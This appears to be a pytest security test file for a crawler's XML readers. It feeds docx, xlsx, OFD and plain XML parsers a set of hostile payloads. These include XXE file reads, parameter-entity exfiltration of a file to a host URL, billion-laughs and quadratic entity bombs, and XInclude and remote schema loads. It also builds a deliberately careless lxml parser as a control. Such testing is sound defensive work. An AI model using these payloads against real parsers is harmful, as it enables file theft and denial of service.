"""XML that would have its reader fetch a file, ask a host, or unfold: every parser of ours is given all of it.

libxml2 and calamine open files without asking Python, so the kernel is asked whether a file was opened, and a listener
whether anybody called.
"""

import ctypes
import os
import socket
import struct
import time
import zipfile
from functools import cache
from io import BytesIO

import pytest
from lxml import etree

from crawler.extract.scripted import read_markup
from crawler.files.reading import read_file
from crawler.visible import visible_text
from crawler.words import FileOutcome
from tests.crawler.files.conftest import make_docx, make_ofd, make_xlsx, packed

CANARY = "canary-of-the-file-system"
MARK = "the-text-before"
_OPENED = 0x20  # IN_OPEN
_EVENT = struct.Struct("iIII")
BOMBED = {FileOutcome.BOMB, FileOutcome.DAMAGED, FileOutcome.TOO_HEAVY}
LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 11))
QUADRATIC = f'<!ENTITY a0 "{"ha" * 50_000}">'


class Watched:
    """A file and a port; tells whether anybody has opened the one or called at the other."""

    def __init__(self, folder):
        self.file = folder / "secret.txt"
        self.file.write_text(CANARY)
        (folder / "evil.dtd").write_text(f'<!ENTITY x "{CANARY}">')
        self.dtd = folder / "evil.dtd"
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.setblocking(False)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/evil.dtd"
        libc = ctypes.CDLL(None, use_errno=True)
        self.kernel = libc.inotify_init1(os.O_NONBLOCK)
        libc.inotify_add_watch(self.kernel, bytes(folder), _OPENED)

    def opened(self):
        """Return how many files of the folder were opened since it was last asked."""
        try:
            events = os.read(self.kernel, 65536)
        except BlockingIOError:
            return 0
        count, at = 0, 0
        while at < len(events):
            *_, length = _EVENT.unpack_from(events, at)
            at += _EVENT.size + length
            count += 1
        return count

    def called(self):
        """Whether anybody has connected since it was last asked."""
        try:
            self.listener.accept()[0].close()
        except BlockingIOError:
            return False
        return True


@pytest.fixture
def watched(tmp_path):
    made = Watched(tmp_path)
    yield made
    made.listener.close()
    os.close(made.kernel)


PAYLOADS = {
    "a file as an entity": '<!DOCTYPE r [<!ENTITY a0 SYSTEM "file://{file}">]>',
    "a bare path as an entity": '<!DOCTYPE r [<!ENTITY a0 SYSTEM "{file}">]>',
    "a host as an entity": '<!DOCTYPE r [<!ENTITY a0 SYSTEM "{url}">]>',
    "a parameter entity from a file": '<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{dtd}"> %p; <!ENTITY a0 "{mark}">]>',
    "a parameter entity from a host": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}"> %p; <!ENTITY a0 "{mark}">]>',
    "a file sent to a host": '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % s "<!ENTITY a0 SYSTEM \'{url}?%f;\'>"> %s;]>',
    "a type from a file": '<!DOCTYPE r SYSTEM "file://{dtd}">',
    "a type from a host": '<!DOCTYPE r SYSTEM "{url}">',
    "a public type": '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}">',
    "a billion laughs": "<!DOCTYPE r [{laughs}]>",
    "quadratic": "<!DOCTYPE r [{quadratic}]>",
    "itself": '<!DOCTYPE r [<!ENTITY a0 "&a1;"><!ENTITY a1 "&a0;">]>',
    "behind a long comment": "<!--" + " " * 5000 + '--><!DOCTYPE r [<!ENTITY a0 SYSTEM "file://{file}">]>',
    "a stylesheet": '<?xml-stylesheet type="text/xsl" href="{url}"?>',
}
"""What stands before the root."""
INSIDE = {
    "an inclusion of a file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>',
    "an inclusion from a host": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>',
    "a schema from a host": '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}"/>',
}
"""What stands in the text."""
REFERRING = {
    "a file as an entity",
    "a bare path as an entity",
    "a host as an entity",
    "a billion laughs",
    "quadratic",
    "itself",
}
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>'
STRINGS = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{}</t></si><si><t>x</t></si></sst>'
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    '<c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData></worksheet>'
)
PAGE = '<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:TextObject Boundary="1 1 1 1"><ofd:TextCode>{}</ofd:TextCode></ofd:TextObject></ofd:Page>'


REFUSING = {("docx", "utf-8"), ("docx", "utf-16"), ("ofd", "utf-8"), ("ofd", "utf-16"), ("xml", "utf-8")}
"""Parsers that refuse a document which declares a type; a bare document in UTF-16 is read as plain text, whatever it says."""
WORDS, BOOK, LAYOUT = cache(make_docx), cache(make_xlsx), cache(make_ofd)


def with_part(package, name, part):
    """Return *package* with another *part* under *name*."""
    with zipfile.ZipFile(BytesIO(package)) as whole:
        parts = {one: whole.read(one) for one in whole.namelist()}
    return packed(parts | {name: part})


def shown(part):
    """Return what a page that consists of *part* shows; lists that a service sends as XML are read so too."""
    text = part.decode("utf-8", "replace")
    assert read_markup(text).nodes
    return visible_text(text, 200_000)


PARSERS = {
    "docx": (WORD, lambda part: read_file(with_part(WORDS(), "word/document.xml", part), "docx")),
    "shared strings of xlsx": (STRINGS, lambda part: read_file(with_part(BOOK(), "xl/sharedStrings.xml", part), "xlsx")),
    "a sheet of xlsx": (SHEET, lambda part: read_file(with_part(BOOK(), "xl/worksheets/sheet1.xml", part), "xlsx")),
    "ofd": (PAGE, lambda part: read_file(with_part(LAYOUT(), "Doc_0/Pages/Page_0/Content.xml", part), "ofd")),
    "xml": ("<r>{}</r>", lambda part: read_file(part, "xml")),
    "docx in zip": (WORD, lambda part: read_file(packed({"a.docx": with_part(WORDS(), "word/document.xml", part)}), "zip")),
    "a page or a list of a service": ("<r>{}</r>", shown),
}  # fmt: skip


def hostile(name, root, watched, encoding="utf-8"):
    """Return the document with the payload *name* in it."""
    places = {
        "file": watched.file,
        "dtd": watched.dtd,
        "url": watched.url,
        "mark": MARK,
        "laughs": LAUGHS,
        "quadratic": QUADRATIC,
    }
    before = after = ""
    if name in INSIDE:
        after = INSIDE[name].format(**places)
    else:
        before = PAYLOADS[name].replace("{laughs}", LAUGHS).replace("{quadratic}", QUADRATIC)
        for key, value in places.items():
            before = before.replace(f"{{{key}}}", str(value))
        times = 2000 if name == "quadratic" else 1
        depth = "&a10;" if name == "a billion laughs" else "&a0;"
        after = depth * times if name in REFERRING or name == "a file sent to a host" else ""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{before}{root.format(MARK + after)}'
    return text.encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("parser", PARSERS)
def test_nothing_is_read_asked_or_unfolded(watched, parser, encoding):
    root, read = PARSERS[parser]
    for name in (*PAYLOADS, *INSIDE):
        data = hostile(name, root, watched, encoding)
        watched.opened()
        begun = time.process_time()
        found = read(data)
        assert time.process_time() - begun < 1, name
        assert (watched.opened(), watched.called()) == (0, False), name
        said = repr(found)
        assert CANARY not in said, name
        assert len(said) < len(data) + 2000, name
        if (parser, encoding) in REFUSING and "DOCTYPE" in PAYLOADS.get(name, ""):
            assert found.outcome in BOMBED, name


def test_there_are_payloads_enough():
    assert len(PAYLOADS) + len(INSIDE) >= 10
    assert len(PARSERS) >= 3


def test_the_watch_sees_a_careless_parser(watched):
    """What the watch must be able to see: libxml2 opens the file and the type where it is let to."""
    careless = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    data = hostile("a file as an entity", "<r>{}</r>", watched)
    assert CANARY in etree.tostring(etree.fromstring(data, careless), encoding="unicode", method="text")
    assert watched.opened() > 0
    socket.create_connection(("127.0.0.1", watched.listener.getsockname()[1])).close()
    assert watched.called()
